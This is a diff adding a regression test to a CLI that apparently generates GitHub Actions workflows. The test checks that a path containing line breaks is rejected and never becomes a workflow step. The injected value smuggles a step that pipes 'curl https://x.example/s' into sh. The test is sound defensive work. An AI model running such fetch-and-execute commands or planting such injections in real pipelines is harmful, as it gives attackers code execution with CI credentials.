@@ -234,3 +234,38 @@ def test_a_secret_list_of_the_wrong_shape_is_not_quoted(repo):
             api = server.api_url
         assert f"    error: GET {api}/secret{said}\n" in result.stdout
         assert "LIVE-VALUE" not in result.output
+
+
+# -- a pull request's paths: nothing of them becomes a workflow step -------------------
+
+STEP = "\\n      - name: Looks like ours\\n        run: curl https://x.example/s | sh"
+INJECTED = f"""\
+id: {PID}
+zambdas:
+  check-in:
+    runtime: nodejs22.x
+    source: "dist{STEP}\\n      #/f.zip"
+    sourceInputs: ["src/**\\n      - other/**"]
+"""
+
+
+def test_a_path_with_a_line_break_never_becomes_a_workflow_step(repo):
+    # `init` writes each zip's folder into apply.yml's artifact step, a line per glob:
+    # a `source` holding newlines passed validate and wrote a step of its own, run in
+    # the job that plans with the read credentials.
+    write_project(repo, INJECTED, "functions.yaml")
+    checked = CliRunner().invoke(cli, ["validate"])
+    assert checked.exit_code == 1
+    assert checked.output.splitlines()[:2] == [
+        "projects/functions.yaml:5:13: zambdas.check-in.source: 'dist\\n      - name: Looks "
+        "like ours\\n        run: curl https://x.example/s | sh\\n      #/f.zip' holds a "
+        "control, line-break or bidi character",
+        "projects/functions.yaml:6:20: zambdas.check-in.sourceInputs: 'src/**\\n      - "
+        "other/**' holds a control, line-break or bidi character",
+    ]
+    result = CliRunner().invoke(cli, ["init", str(repo), "--action", f"acme/reconciler@{'a' * 40}"])
+    assert result.exit_code == 0, result.output
+    workflows = repo / ".github" / "workflows"
+    for name in ("plan.yml", "apply.yml", "drift.yml"):
+        text = (workflows / name).read_text()
+        assert "Looks like ours" not in text and "other/**" not in text
